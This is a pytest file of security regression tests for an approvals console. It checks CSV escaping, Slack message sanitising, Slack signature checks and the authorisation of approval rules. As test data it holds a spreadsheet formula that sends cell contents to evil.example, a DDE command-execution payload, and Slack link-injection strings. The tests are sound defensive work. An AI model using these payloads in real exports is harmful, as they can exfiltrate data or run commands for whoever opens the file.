"""Security regressions of the rules, Slack and CSV findings (shared/SECURITY_AUDIT.md):
H2, M5 (rules), M2 (CSV formula injection), M3, L1, L6 (Slack). Each test is named after its
finding and failed on b77ab62."""

import csv
import io

import pytest
from django.test import Client

from tests.support.api import ApiClient
from tests.support.budgets import admit, post_events, step
from tests.support.factories import make_key

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _records(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def _cells(records) -> list[str]:
    return [cell for record in records for cell in record]


def _browser(principal) -> Client:
    browser = Client()
    browser.force_login(principal.user)
    return browser


# ---- M2: CSV formula injection -------------------------------------------------------------


def test_m2_the_audit_csv_neutralises_a_failed_sign_ins_user_agent(client, tenant_a, admin_a):
    # no credentials at all: a failed sign-in of a real login, with a formula as User-Agent
    client.post(
        "/accounts/login/",
        {"username": "admin@a.example", "password": "wrong"},
        headers={"User-Agent": FORMULA},
    )
    admin = ApiClient(Client(), make_key(tenant_a, scopes=("manage",), principal=admin_a))
    records = _records(admin.get("/api/v1/audit", format="csv", action="signin.failed"))
    header, row = records[0], records[1]
    assert row[header.index("userAgent")] == "'" + FORMULA
    assert not [c for c in _cells(records) if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.fixture
def formula_usage(ingest_a):
    """A runtime's key registers a principal and a model named like formulas."""
    admit(ingest_a, "x1", principal=FORMULA)
    post_events(ingest_a, "x1", step(1, 1, usage=(3, 2, 5), model="@SUM(1+1)*cmd|' /C calc'!A0"))


def test_m2_the_usage_csv_of_the_api_neutralises_principal_and_model(
    formula_usage, tenant_a, admin_a
):
    admin = ApiClient(Client(), make_key(tenant_a, scopes=("manage",), principal=admin_a))
    response = admin.get("/api/v1/usage", format="csv", groupBy="principal,agent,model")
    records = _records(response)
    assert records[0][:3] == ["principalId", "agentId", "model"]
    [row] = records[1:]
    assert row[0] == "'" + FORMULA and row[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert not [c for c in _cells(records) if c.startswith(("=", "+", "@", "\t", "\r"))]


def test_m2_the_usage_csv_page_neutralises_a_principal_named_like_a_formula(formula_usage, lead_a):
    page = _browser(lead_a).get("/budgets/usage.csv", {"groupBy": "principal,agent,model"})
    assert page.status_code == 200
    [row] = _records(page)[1:]
    assert row[0] == "'" + FORMULA


def test_m2_the_one_csv_helper_neutralises_text_only_and_keeps_numbers():
    from console.core.csvsafe import csv_cell, csv_text  # (new: imported here, so that this file
    # also runs against the code before the fix and each test fails alone)

    assert csv_cell("=1+1") == "'=1+1" and csv_cell("+1") == "'+1" and csv_cell("-x") == "'-x"
    assert csv_cell("@x") == "'@x" and csv_cell("\tx") == "'\tx" and csv_cell("\rx") == "'\rx"
    assert csv_cell(-5) == -5 and csv_cell(2.5) == 2.5 and csv_cell("a=b") == "a=b"
    assert csv_text([["-5", -5, None, "ok"]]) == "'-5,-5,,ok\r\n"


# ---- L6: Slack message formatting ----------------------------------------------------------

BACKTICK_TOOL = "x` *pwn* <https://evil.example|click> `y"
LINKY_REASON = "log in at http://evil.example/login or www.evil.example, mail help@evil.example"


def _mrkdwn_objects(message: dict) -> list[dict]:
    found = []
    for block in message["blocks"]:
        for obj in [block.get("text"), *block.get("fields", []), *block.get("elements", [])]:
            if isinstance(obj, dict) and obj.get("type") == "mrkdwn":
                found.append(obj)
    return found


def _l6_message():
    from notifications.slack import approval_message

    approval = {"id": "apr_1", "status": "pending", "toolName": BACKTICK_TOOL, "runId": "r.1",
                "reason": LINKY_REASON, "arguments": {"q": "a`b```c"}}  # fmt: skip
    return approval_message("approval.requested", approval, run_for="http://evil.example")


def test_l6_a_back_tick_in_a_tool_name_cannot_close_its_code_span():
    message = _l6_message()
    [tool] = [o["text"] for o in _mrkdwn_objects(message) if o["text"].startswith("*Tool*")]
    body = tool.removeprefix("*Tool*\n")
    assert body.startswith("`") and body.endswith("`") and body.count("`") == 2
    assert "&lt;https:" in body  # and no link markup either
    [summary] = [o["text"] for o in _mrkdwn_objects(message) if o["text"].startswith("```")]
    assert summary.count("`") == 6  # the block's own fences only


def test_l6_bare_urls_domains_and_addresses_are_not_linked():
    import re

    message = _l6_message()
    prose = [
        o["text"] for o in _mrkdwn_objects(message) if not o["text"].startswith(("```", "*Tool*"))
    ]
    prose.append(message["text"])
    linkable = re.compile(r"https?:/|www\.\w|\w\.\w|\w@\w")
    for text in prose:
        assert not linkable.search(text), text
    # what a reader sees is unchanged (the joiner is invisible)
    reason = next(t for t in prose if t.startswith("*Reason*"))
    assert reason.replace("\u2060", "") == "*Reason*\n" + LINKY_REASON
    # and Slack is told not to parse any of it (its documented switch)
    assert all(o.get("verbatim") is True for o in _mrkdwn_objects(message))


# ---- Slack: M3 (the endpoint before a signature holds), L1 (who a Slack user is) -----------

SLACK = "/integrations/slack/actions"
SIGNING = "8f742231b10e8888abcd99yyyzzz85a5"


@pytest.fixture
def slack_call(tenant_a):
    from tests.support.factories import ApprovalFactory, PrincipalFactory, RunFactory

    tenant_a.slack_signing_secret = SIGNING
    tenant_a.slack_decisions = "decide"
    tenant_a.save()
    alice = PrincipalFactory(tenant=tenant_a, external_id="alice@a.example")
    run = RunFactory(tenant=tenant_a, principal=alice, external_id="run_slack")
    return ApprovalFactory(run=run, tool_name="send_email")


def _press(approval, *, user, action="gavel_approve") -> bytes:
    import json
    from urllib.parse import urlencode

    payload = {"type": "block_actions", "user": {"id": user},
               "actions": [{"action_id": action, "value": approval.public_id}]}  # fmt: skip
    return urlencode({"payload": json.dumps(payload)}).encode()


def _slack_post(client, body: bytes, *, secret=SIGNING, headers=None):
    import time

    from slack_sdk.signature import SignatureVerifier

    if headers is None:
        timestamp = str(int(time.time()))
        signature = SignatureVerifier(secret).generate_signature(timestamp=timestamp, body=body)
        headers = {"X-Slack-Request-Timestamp": timestamp, "X-Slack-Signature": signature}
    return client.post(
        SLACK, body, content_type="application/x-www-form-urlencoded", headers=headers
    )


def _status(approval) -> str:
    approval.refresh_from_db()
    return approval.status


def test_m3_unsigned_requests_write_nothing_into_the_tenants_audit_log(client, slack_call):
    from console.models import AuditEvent

    body = _press(slack_call, user="U0ANY", action="gavel_deny")
    stale = {"X-Slack-Request-Timestamp": "1", "X-Slack-Signature": "v0=00"}
    answers = [_slack_post(client, body, headers=stale) for _ in range(20)]
    # a fresh timestamp and a well-formed signature made with the wrong secret
    answers += [_slack_post(client, body, secret="not-the-secret") for _ in range(5)]
    assert not AuditEvent.objects.filter(tenant=slack_call.tenant).exists()
    assert _status(slack_call) == "pending"
    assert {a.status_code for a in answers} == {401}
    assert {a.json()["error"]["code"] for a in answers} == {"slack_signature_invalid"}


def test_m3_a_timestamp_that_is_not_a_number_is_401_json(client, slack_call):
    body = _press(slack_call, user="U0ANY")
    for timestamp in ("abc", "", "1e9", "-5", "9" * 40):
        headers = {"X-Slack-Request-Timestamp": timestamp, "X-Slack-Signature": "v0=" + "0" * 64}
        response = _slack_post(client, body, headers=headers)
        assert response.status_code == 401, timestamp
        assert response["Content-Type"] == "application/json"
        assert response.json()["error"]["code"] == "slack_signature_invalid"


def test_m3_a_deeply_nested_or_broken_payload_is_400_json_never_500(client, slack_call):
    import time

    fresh = {"X-Slack-Request-Timestamp": str(int(time.time())),
             "X-Slack-Signature": "v0=" + "0" * 64}  # fmt: skip
    for body in (b"payload=" + b"[" * 100_000, b"payload=" + b'{"a":' * 5_000, b"payload=[1]",
                 b"payload=not-json", b"\xff\xfe", b"nothing=here"):  # fmt: skip
        response = _slack_post(client, body, headers=fresh)
        assert response.status_code == 400, body[:20]
        assert response.json()["error"]["code"] == "invalid_payload"


def test_l1_a_typed_in_slack_id_never_says_who_pressed(client, slack_call, admin_a, viewer_a):
    from notifications.models import NotificationSettings

    url = "/api/v1/me/notification-settings"
    viewer = ApiClient(
        Client(), make_key(slack_call.tenant, scopes=("manage",), principal=viewer_a)
    )
    admin = ApiClient(Client(), make_key(slack_call.tenant, scopes=("manage",), principal=admin_a))
    assert viewer.patch(url, {"slackUserId": "UADMIN01"}).status_code == 200  # squatting
    assert admin.patch(url, {"slackUserId": "UADMIN01"}).status_code == 200  # a claim blocks no one
    assert viewer.get(url).json()["slackUserId"] == "UADMIN01"  # the wire field stays
    # a press by UADMIN01 is attributed to neither claimant: both ids are only typed in
    answer = _slack_post(client, _press(slack_call, user="UADMIN01")).json()
    assert "does not know who you are" in answer["text"] and _status(slack_call) == "pending"
    assert not NotificationSettings.objects.filter(slack_user_verified=True).exists()


def test_l1_a_slack_id_is_verified_by_a_signed_slack_request_carrying_the_link_code(
    client, slack_call, admin_a, viewer_a
):
    import re
    from urllib.parse import urlencode

    from notifications.models import NotificationSettings

    url = "/api/v1/me/notification-settings"
    viewer = ApiClient(
        Client(), make_key(slack_call.tenant, scopes=("manage",), principal=viewer_a)
    )
    viewer.patch(url, {"slackUserId": "UADMIN01"})  # the squatter's claim
    page = _browser(admin_a).post("/settings/", {"slack_link": "1"})
    assert page.status_code == 200
    [code] = re.findall(r"/gavel link ([A-Z0-9]{4}-[A-Z0-9]{4}-[A-Z0-9]{4})", page.content.decode())
    command = urlencode({"command": "/gavel", "text": f"link {code.lower()}",
                         "user_id": "UADMIN01", "team_id": "T1"}).encode()  # fmt: skip
    assert _slack_post(client, command, secret="not-the-secret").status_code == 401
    assert not NotificationSettings.objects.filter(slack_user_verified=True).exists()
    linked = _slack_post(client, command)
    assert linked.status_code == 200 and "admin@a.example" in linked.json()["text"]
    assert _slack_post(client, command).status_code == 401  # used once
    mine = NotificationSettings.objects.get(principal=admin_a)
    assert (mine.slack_user_id, mine.slack_user_verified) == ("UADMIN01", True)
    assert NotificationSettings.objects.get(principal=viewer_a).slack_user_id is None
    # now a press by UADMIN01 is the admin's
    answer = _slack_post(client, _press(slack_call, user="UADMIN01")).json()
    assert _status(slack_call) == "approved" and slack_call.decided_by == admin_a, answer


# ---- H2: a rule is everyone's who made or changed it (four-eyes) -----------------------------

RULES = "/api/v1/rules"
RUNS = "/api/v1/runs"


def _hold(api, run_id, principal, tool, seq=1):
    """A run for `principal` asks for one call of `tool`; the call's status comes back."""
    from approvals.models import Approval

    if seq == 1:
        body = {"id": run_id, "agentId": "bot", "agentVersion": 1, "principalId": principal}
        assert api.post(RUNS, body).status_code == 201
    call = {"toolCallId": f"c{seq}", "toolName": tool, "arguments": {"amount": 5},
            "rejectionMessage": "no"}  # fmt: skip
    event = {"seq": seq, "type": "approval.requested", "step": seq, "calls": [call]}
    assert api.post(f"{RUNS}/{run_id}/events", {"events": [event]}).status_code == 200
    return Approval.objects.get(run__external_id=run_id, tool_call_id=f"c{seq}").status


def _manage(principal) -> ApiClient:
    return ApiClient(Client(), make_key(principal.tenant, scopes=("manage",), principal=principal))


def test_h2_a_rule_widened_by_someone_else_never_decides_the_editors_own_calls(
    ingest_a, admin_a, lead_a
):
    admin, lead = _manage(admin_a), _manage(lead_a)
    made = admin.post(RULES, {"name": "reports ok", "effect": "approve",
                              "toolPattern": "report.generate"})  # fmt: skip
    assert made.status_code == 201
    rule_id = made.json()["id"]
    widened = lead.patch(
        f"{RULES}/{rule_id}", {"toolPattern": "*", "principalPattern": "lead@a.example"}
    )
    assert widened.status_code == 200 and widened.json()["createdBy"] == "admin@a.example"
    # the lead's own call waits for someone else
    assert _hold(ingest_a, "run_lead", "lead@a.example", "payments.transfer") == "pending"
    explained = lead.post(f"{RULES}/explain", {"toolName": "payments.transfer",
                                               "runId": "run_lead"}).json()  # fmt: skip
    assert explained["decision"] == "ask"
    assert explained["rules"][0]["failed"].startswith(
        "editedBy: the run is for 'lead@a.example', who changed this rule"
    )
    # the rule still decides for everyone else
    lead.patch(f"{RULES}/{rule_id}", {"principalPattern": "*"})
    assert _hold(ingest_a, "run_alice", "alice@a.example", "payments.transfer") == "approved"


def test_h2_an_edit_through_the_rules_page_makes_the_editor_an_author(ingest_a, admin_a, lead_a):
    from approvals.models import Rule

    made = _manage(admin_a).post(RULES, {"name": "reports ok", "effect": "approve",
                                         "toolPattern": "report.generate"}).json()  # fmt: skip
    form = {"name": "reports ok", "effect": "approve", "tool_pattern": "*",
            "agent_pattern": "*", "principal_pattern": "*", "has_active": "1", "active": "on",
            "cond_path": [""], "cond_op": ["equals"], "cond_value": [""]}  # fmt: skip
    saved = _browser(lead_a).post(f"/rules/{made['id']}/", form)
    assert saved.status_code == 302, saved.content.decode()[:500]
    rule = Rule.objects.get(public_id=made["id"])
    assert rule.tool_pattern == "*" and rule.created_by == admin_a
    assert _hold(ingest_a, "run_lead", "lead@a.example", "payments.transfer") == "pending"
    assert _hold(ingest_a, "run_admin", "admin@a.example", "payments.transfer") == "pending"
    assert _hold(ingest_a, "run_alice", "alice@a.example", "payments.transfer") == "approved"
    assert list(rule.editors.all()) == [lead_a]


# ---- M5: a rule decides only what its authors may decide -------------------------------------


def _principal_with_role(tenant, external_id, *, capabilities, decide_tools):
    from console.models import Role
    from tests.support.factories import PrincipalFactory

    role = Role.objects.create(tenant=tenant, name=f"role-{external_id}",
                               capabilities=capabilities, decide_tools=decide_tools)  # fmt: skip
    principal = PrincipalFactory(tenant=tenant, external_id=external_id, password="pw-12345678")
    principal.roles.add(role)
    return principal, role


def test_m5_manage_rules_without_decide_makes_and_changes_no_rule(ingest_a, tenant_a, lead_a):
    from approvals.models import Rule

    rulesonly, _ = _principal_with_role(
        tenant_a, "rules@a.example", capabilities=["view_runs", "manage_rules"], decide_tools=[]
    )
    api = _manage(rulesonly)
    for effect in ("approve", "deny"):
        made = api.post(RULES, {"name": "pay", "effect": effect, "toolPattern": "payments.*"})
        assert made.status_code == 403, made.content
        error = made.json()["error"]
        assert error["code"] == "forbidden" and "'payments.*'" in error["message"]
    assert not Rule.objects.exists()
    theirs = _manage(lead_a).post(RULES, {"name": "r", "effect": "approve",
                                          "toolPattern": "report.generate"}).json()  # fmt: skip
    widened = api.patch(f"{RULES}/{theirs['id']}", {"toolPattern": "*"})
    assert widened.status_code == 403
    assert Rule.objects.get().tool_pattern == "report.generate"
    assert api.patch(f"{RULES}/{theirs['id']}", {"toolPattern": "*", "name": 5}).status_code == 422
    assert _hold(ingest_a, "run_x", "alice@a.example", "payments.transfer") == "pending"


def test_m5_a_rules_tool_pattern_must_be_covered_by_its_authors_decide_globs(tenant_a):
    mailer, _ = _principal_with_role(
        tenant_a, "mailer@a.example", capabilities=["decide", "manage_rules"],
        decide_tools=["email.*"],
    )  # fmt: skip
    api = _manage(mailer)
    allowed = {"email.send": 201, "email.*": 201, "email.?*": 201}
    refused = {"*": 403, "e*": 403, "email*": 403, "payments.*": 403}
    for pattern, status in {**allowed, **refused}.items():
        made = api.post(RULES, {"name": "r", "effect": "deny", "toolPattern": pattern})
        assert made.status_code == status, (pattern, made.content)


def test_m5_a_rule_whose_author_lost_the_right_no_longer_decides(ingest_a, tenant_a, lead_a):
    from console.models import Role

    payer, role = _principal_with_role(
        tenant_a, "payer@a.example", capabilities=["decide", "manage_rules"],
        decide_tools=["payments.*"],
    )  # fmt: skip
    made = _manage(payer).post(RULES, {"name": "pay", "effect": "approve",
                                       "toolPattern": "payments.*"})  # fmt: skip
    assert made.status_code == 201
    assert _hold(ingest_a, "run_1", "alice@a.example", "payments.transfer") == "approved"
    Role.objects.filter(pk=role.pk).update(decide_tools=["email.*"])  # no rule write at all
    assert _hold(ingest_a, "run_1", "alice@a.example", "payments.transfer", seq=2) == "pending"
    Role.objects.filter(pk=role.pk).update(decide_tools=["payments.*"])
    assert _hold(ingest_a, "run_1", "alice@a.example", "payments.transfer", seq=3) == "approved"
    payer.is_active = False
    payer.save()
    assert _hold(ingest_a, "run_1", "alice@a.example", "payments.transfer", seq=4) == "pending"
    # an editor's rights count as much as the creator's
    payer.is_active = True
    payer.save()
    reviewer, _ = _principal_with_role(
        tenant_a, "rev2@a.example", capabilities=["decide", "manage_rules"], decide_tools=["*"]
    )
    assert (
        _manage(reviewer).patch(f"{RULES}/{made.json()['id']}", {"name": "pay!"}).status_code == 200
    )
    Role.objects.filter(principals=reviewer).update(capabilities=["manage_rules"])
    assert _hold(ingest_a, "run_1", "alice@a.example", "payments.transfer", seq=5) == "pending"


def test_m5_always_approve_from_a_card_needs_the_right_to_decide_the_tool(tenant_a):
    from approvals.models import Rule
    from tests.support.factories import ApprovalFactory, RunFactory

    mailer, _ = _principal_with_role(
        tenant_a, "mailer@a.example", capabilities=["view_runs", "decide", "manage_rules"],
        decide_tools=["email.*"],
    )  # fmt: skip
    pay = ApprovalFactory(run=RunFactory(tenant=tenant_a), tool_name="payments.transfer")
    mail = ApprovalFactory(run=RunFactory(tenant=tenant_a), tool_name="email.send")
    browser = _browser(mailer)
    assert (
        "Always approve calls like this"
        not in browser.get(f"/approvals/{pay.public_id}/").content.decode()
    )
    assert (
        "Always approve calls like this"
        in browser.get(f"/approvals/{mail.public_id}/").content.decode()
    )
    form = browser.get(f"/rules/new/?approval={pay.public_id}")
    assert form.status_code == 200  # the prefilled editor still opens; saving it is refused
    form = {"name": "pay", "effect": "approve", "tool_pattern": "payments[.]transfer"}
    saved = browser.post("/rules/new/", form)
    assert saved.status_code == 403
    assert "may not make a rule for the tool pattern" in saved.content.decode()
    assert not Rule.objects.exists()


@pytest.mark.django_db(transaction=True)
def test_h2_rules_changed_before_the_fix_get_their_editors_from_the_audit_log():
    from django.db import connection
    from django.db.migrations.executor import MigrationExecutor

    executor = MigrationExecutor(connection)
    latest = executor.loader.graph.leaf_nodes()
    others = [node for node in latest if node[0] != "approvals"]  # every other app as it is
    before = [("approvals", "0005_webhook_format_slack"), *others]
    after = [("approvals", "0006_rule_editors"), *others]
    try:
        executor.migrate(before)
        old = MigrationExecutor(connection).loader.project_state(before).apps
        tenant = old.get_model("console", "Tenant").objects.create(slug="m", name="M")
        principal = old.get_model("console", "Principal").objects
        admin = principal.create(tenant=tenant, external_id="admin")
        lead = principal.create(tenant=tenant, external_id="lead")
        rule = old.get_model("approvals", "Rule").objects.create(
            tenant=tenant, public_id="rul_old", name="r", effect="approve", created_by=admin
        )
        # The console's own writer (console is at its latest migration here): on PostgreSQL
        # a trigger refuses audit rows inserted without the writer's tag.
        from console.models import AuditEvent

        for actor, action in ((admin, "rule.created"), (lead, "rule.updated"),
                              (admin, "rule.updated")):  # fmt: skip
            AuditEvent.objects.create(tenant_id=tenant.pk, action=action,
                                      actor_principal_id=actor.pk,
                                      object_type="rule", object_id="rul_old")  # fmt: skip
        executor = MigrationExecutor(connection)
        executor.migrate(after)
        new = MigrationExecutor(connection).loader.project_state(after).apps
        rule = new.get_model("approvals", "Rule").objects.get(pk=rule.pk)
        assert [p.external_id for p in rule.editors.all()] == ["lead"]
    finally:
        executor = MigrationExecutor(connection)
        executor.loader.build_graph()
        executor.migrate(latest)
